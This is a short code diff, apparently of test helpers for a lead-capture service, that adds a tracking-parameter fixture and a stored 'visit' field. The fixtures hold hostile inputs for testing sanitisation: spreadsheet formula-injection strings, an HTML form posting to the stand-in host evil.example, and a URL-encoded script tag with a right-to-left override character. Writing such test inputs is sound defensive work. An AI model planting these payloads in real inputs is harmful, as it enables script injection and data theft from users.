@@ -34,6 +34,9 @@ export const hostile = {
   message: "=HYPERLINK(1)\n+1;@SUM(1)\n'</p><form action=//evil.example>",
 };
 
+/** Where a visit came from, as a page says it. */
+export const visit = 'landing=%2Fretail&utm_source=post&gclid=%3Cscript%3E%E2%80%AEx';
+
 let made = 0;
 
 /** Keeps a lead, with a delivery by mail and one by webhook. */
@@ -49,6 +52,7 @@ export async function keep(
     receivedAt: RECEIVED,
     payload,
     signals: [],
+    visit: '',
     ...more,
   };
   const kept = await store.keep(lead, ['mail', 'webhook']);
